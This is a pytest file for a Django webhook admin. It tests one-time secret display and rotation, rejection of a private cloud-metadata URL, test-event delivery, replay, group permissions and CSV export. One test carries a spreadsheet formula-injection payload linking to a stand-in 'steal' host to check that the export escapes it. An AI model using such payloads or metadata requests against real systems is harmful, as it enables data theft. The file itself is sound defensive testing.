"""The admin: the secret shown once, never listed; test events, replay and the Ops group."""

import pytest
from django.contrib.auth.models import Group

from bizops.automations.models import Delivery, WebhookEndpoint
from tests.automations.factories import endpoint

pytestmark = pytest.mark.django_db
LIST = "/admin/automations/webhookendpoint/"


def test_the_secret_is_shown_once_at_creation_and_never_in_the_list_or_form(admin_client, settings):
    settings.WEBHOOK_ALLOW_PRIVATE_TARGETS = False
    response = admin_client.post(
        f"{LIST}add/",
        {
            "name": "crm",
            "url": "https://93.184.216.34/hooks",
            "format": "json",
            "event_types": ["job.failed"],
            "enabled": "on",
            "description": "",
        },
    )
    ep = WebhookEndpoint.objects.get(name="crm")
    assert response.status_code == 200
    assert response.content.decode().count(ep.secret) == 1
    for url in (LIST, f"{LIST}{ep.pk}/change/", f"{LIST}?q=crm"):
        page = admin_client.get(url).content.decode()
        assert ep.secret not in page and ep.secret.removeprefix("whsec_") not in page
    assert ep.secret not in repr(ep) and ep.secret not in str(ep)


def test_rotating_shows_the_new_secret_once_and_keeps_the_old_one_signing(admin_client):
    ep = WebhookEndpoint.objects.create(name="crm", url="https://93.184.216.34/h", event_types=[])
    old = ep.secret
    response = admin_client.post(LIST, {"action": "rotate_secret", "_selected_action": [ep.pk]})
    ep.refresh_from_db()
    page = response.content.decode()
    assert ep.secret != old and ep.secret in page and old not in page
    assert "The previous secret keeps signing too" in page
    assert ep.signing_secrets() == [old, ep.secret]


def test_a_private_url_is_refused_in_the_form_with_the_reason(admin_client, settings):
    settings.WEBHOOK_ALLOW_PRIVATE_TARGETS = False
    response = admin_client.post(
        f"{LIST}add/",
        {"name": "meta", "url": "http://169.254.169.254/latest/", "format": "json", "enabled": "on"},
    )
    assert (
        "169.254.169.254 resolves to 169.254.169.254, refused (link-local address)"
        in response.content.decode()
    )
    assert not WebhookEndpoint.objects.exists()


def test_send_test_event_delivers_to_that_endpoint_only(
    admin_client, receiver, settings, django_capture_on_commit_callbacks
):
    settings.WEBHOOK_ALLOW_PRIVATE_TARGETS = True
    one = endpoint(receiver, "/one", types=[])
    endpoint(receiver, "/two", types=[])
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(LIST, {"action": "send_test_event", "_selected_action": [one.pk]})
    [seen] = receiver.accepted("/one")
    assert b'"type":"webhook.test"' in seen.body
    assert receiver.at("/two") == []


def test_replay_from_the_delivery_log(admin_client, receiver, settings, django_capture_on_commit_callbacks):
    settings.WEBHOOK_ALLOW_PRIVATE_TARGETS = True
    one = endpoint(receiver, "/one", types=[])
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(LIST, {"action": "send_test_event", "_selected_action": [one.pk]})
    d = Delivery.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            "/admin/automations/delivery/", {"action": "replay", "_selected_action": [d.pk]}, follow=True
        )
    assert "1 delivery(ies) queued again." in response.content.decode()
    assert [r.webhook_id for r in receiver.accepted("/one")] == [d.webhook_id] * 2
    page = admin_client.get(f"/admin/automations/delivery/{d.pk}/change/").content.decode()
    assert d.webhook_id in page and "succeeded" in page.lower()


def test_the_ops_group_manages_endpoints_and_reads_the_log():
    codenames = set(Group.objects.get(name="Ops").permissions.values_list("codename", flat=True))
    assert {
        "add_webhookendpoint",
        "change_webhookendpoint",
        "view_delivery",
        "change_delivery",
        "view_event",
    } <= codenames
    assert "change_webhookendpoint" not in set(
        Group.objects.get(name="Growth").permissions.values_list("codename", flat=True)
    )


def test_the_attempts_download_is_safe_in_a_spreadsheet(
    admin_client, receiver, settings, django_capture_on_commit_callbacks
):
    settings.WEBHOOK_ALLOW_PRIVATE_TARGETS = True
    settings.WEBHOOK_RETRY_SCHEDULE = []
    one = endpoint(receiver, "/evil", types=[], fail=[500])
    receiver.answers["/evil"] = b'=HYPERLINK("http://x.example/steal","click");=1+2'
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(LIST, {"action": "send_test_event", "_selected_action": [one.pk]})
    d = Delivery.objects.get()
    response = admin_client.post(
        "/admin/automations/delivery/", {"action": "download_attempts", "_selected_action": [d.pk]}
    )
    assert response["Content-Disposition"].startswith('attachment; filename="webhook-attempts-')
    header, row = response.content.decode().splitlines()
    assert header.startswith("delivery,event,endpoint,webhook-id,attempt,started")
    assert f'"{d.webhook_id}",1,' in row and ',"failed",500,' in row
    assert row.endswith('"\'=HYPERLINK(""http://x.example/steal"",""click"");=1+2"')
